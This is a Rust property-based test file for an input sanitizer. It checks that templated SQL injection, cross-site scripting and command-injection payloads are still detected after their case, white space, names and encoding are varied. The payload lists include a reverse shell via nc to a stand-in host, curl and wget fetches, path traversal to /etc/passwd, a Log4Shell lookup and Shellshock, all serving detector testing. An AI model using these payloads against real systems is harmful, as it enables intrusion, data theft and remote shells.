//! An attack stays an attack when what does not matter to it is changed: numbers, literals, names, case, white space, and
//! the encoding that it arrives in.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test may panic")]

use portcullis_sanitize::{Scope, inspect_value};
use proptest::prelude::*;

mod encode;

use encode::encodings;

fn is_attack(value: &[u8]) -> bool {
    inspect_value(value, Scope::EVERY).is_some_and(|finding| finding.confidence >= 70)
}

/// `#` stands for a number, `@` for a name, `^` for a literal, a space for white space; letters change their case.
const SQL: &[&str] = &[
    "# or #=#",
    "^' or '^'='^",
    "^' or #=# -- ",
    "^') or ('^'='^",
    "^\" or \"^\"=\"^",
    "# union select @,@ from @--",
    "-#' union all select null,null,@ from @#",
    "#; drop table @",
    "#; delete from @ where @=#",
    "^'; insert into @ values (#)--",
    "#; update @ set @=#",
    "# and sleep(#)",
    "#' and pg_sleep(#)--",
    "#; waitfor delay '0:0:#'--",
    "# and (select count(*) from @) > #",
    "# (select case when (#=#) then # else # end)",
    "#' and ascii(substring((select @ from @),#,#))>#--",
    "^'||(select @ from @)||'^",
    "# and extractvalue(#,concat(0x7e,version()))",
    "# order by #--",
    "#' having #=#--",
    "#) and #=cast((select @ from @) as int)--",
    "# into outfile '^'",
    "^' and #=utl_inaddr.get_host_address((select @ from @))--",
];

/// `~` stands for white space within a tag; the rest as above.
const MARKUP: &[&str] = &[
    "<script>@(#)</script>",
    "<script~src=//@.test></script>",
    "<img~src=@~onerror=@(#)>",
    "<svg/onload=@(#)>",
    "<@~onpointerenter=@(#)>^</@>",
    "<a~href=\"javascript:@(#)\">^</a>",
    "<iframe~src=//@.test>",
    "<body~onload='@(#)'>",
    "\"><script>@(#)</script>",
    "'><img~src=@~onerror=@(#)>",
    "<math><a~xlink:href=javascript:@(#)>",
    "<div~style=\"width:expression(@(#))\">",
    "</textarea><script>@(#)</script>",
];

/// What case matters to.
const EXACT: &[&str] = &[
    "';alert(#)//",
    "\"-alert(#)-\"",
    "${alert(#)}",
    "{{constructor.constructor('@(#)')()}}",
    "; cat /etc/@/@ ",
    "^ && wget http://@.test/#",
    "$(curl http://@.test/#)",
    "| nc -e /bin/sh @.test #",
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "${jndi:ldap://@.test/^}",
    "() { :; }; /bin/bash -c \"@ #\"",
];

fn fill(template: &str, words: &[String], numbers: &[u32], space: &str, gap: &str) -> String {
    let (mut words, mut numbers) = (words.iter().cycle(), numbers.iter().cycle());
    let mut out = String::new();
    for letter in template.chars() {
        match letter {
            '#' => out.push_str(&numbers.next().unwrap().to_string()),
            '@' | '^' => out.push_str(words.next().unwrap()),
            ' ' => out.push_str(space),
            '~' => out.push_str(gap),
            other => out.push(other),
        }
    }
    out
}

/// Words that have no meaning in any of the languages.
fn word() -> impl Strategy<Value = String> {
    "(v|q|z)[a-z]{2,7}[xz]"
}

fn cased(text: &str, pattern: u64) -> String {
    let turned = text.chars().enumerate().map(|(index, letter)| {
        if pattern >> (index % 64) & 1 == 1 {
            letter.to_ascii_uppercase()
        } else {
            letter.to_ascii_lowercase()
        }
    });
    turned.collect()
}

fn stays(value: &str) {
    for (encoding, encoded) in encodings(value.as_bytes()) {
        assert!(is_attack(&encoded), "missed as {encoding}: {value}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn sql(
        words in proptest::collection::vec(word(), 4),
        numbers in proptest::collection::vec(1_u32..9999, 4),
        case in any::<u64>(),
        space in 0_usize..6,
    ) {
        let space = [" ", "\t", "\n", "/**/", "  ", "\u{b}"][space];
        for template in SQL {
            // A hash ends a line: what is white space before must not be a part of the comment.
            stays(&cased(&fill(template, &words, &numbers, space, " "), case));
        }
    }

    #[test]
    fn markup(
        words in proptest::collection::vec(word(), 4),
        numbers in proptest::collection::vec(1_u32..9999, 4),
        case in any::<u64>(),
        gap in 0_usize..5,
    ) {
        let gap = [" ", "\t", "\n", "/", "\u{c}"][gap];
        for template in MARKUP {
            stays(&cased(&fill(template, &words, &numbers, " ", gap), case));
        }
    }

    #[test]
    fn the_rest(
        words in proptest::collection::vec(word(), 4),
        numbers in proptest::collection::vec(1_u32..9999, 4),
    ) {
        for template in EXACT {
            stays(&fill(template, &words, &numbers, " ", " "));
        }
    }

    #[test]
    fn comments_in_words(words in proptest::collection::vec(word(), 2), cut in 1_usize..5) {
        let value = format!("1 {}/**/{} sel/*{}*/ect {} from {}", &"union"[..cut], &"union"[cut..], words[0], words[0], words[1]);
        prop_assert!(is_attack(value.as_bytes()), "{}", value);
    }
}
